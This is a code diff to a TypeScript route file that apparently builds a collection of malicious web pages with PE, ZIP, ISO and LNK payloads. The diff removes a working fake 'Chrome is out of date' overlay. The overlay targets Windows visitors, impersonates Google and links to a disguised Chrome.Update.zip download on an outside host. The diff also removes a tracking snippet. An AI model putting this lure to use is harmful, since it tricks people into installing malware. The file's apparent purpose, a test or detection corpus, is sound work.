@@ -2,8 +2,6 @@ import type { Entry } from '../entry.js';
 import { htmlRoute, redirectRoute } from '../entry.js';
 import { fileRoute, jsRoute, pe, pngRoute, zip, cfb, iso, lnk } from '../parts/e-bin.js';
 import { baseCss, dataLayer, doc, footer } from '../parts/g-kit.js';
-
-const socJs = `(function(){if(document.cookie.indexOf('_wp_upd=')>-1)return;if(!/Windows/.test(navigator.userAgent))return;var s=document.createElement('div');s.id='upd';s.innerHTML='<div style="position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Arial,sans-serif;text-align:center;padding-top:80px"><div style="width:90px;height:90px;margin:0 auto;border-radius:50%;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0)"></div><h1 style="font-weight:400;color:#202124">An error occurred in Chrome</h1><p style="color:#5f6368;max-width:520px;margin:10px auto">Your version of Chrome (118.0.5993.90) is out of date and cannot display this page. Please update Chrome to the latest version to continue. Your bookmarks and saved passwords will not be affected.</p><a id="updbtn" href="https://cdn.wpstatic-content.net/chrome/Chrome.Update.zip" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;margin-top:16px">Update Chrome</a><p style="font-size:12px;color:#80868b;margin-top:30px">Google LLC · 1600 Amphitheatre Parkway · Mountain View, CA 94043</p></div>';document.body.appendChild(s);document.getElementById('updbtn').onclick=function(){document.cookie='_wp_upd=1;path=/;max-age=604800'}})();`;
 export const entries: Entry[] = [
   // German fake full-screen Windows update page, EXE via script
   {
@@ -24,8 +22,3 @@ export const entries: Entry[] = [
     },
   },
 ];
-
-
-function metrika() {
-  return `<script>(function(m,i){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)}})(window,"ym");ym(58811204,"init",{webvisor:true});</script>`;
-}
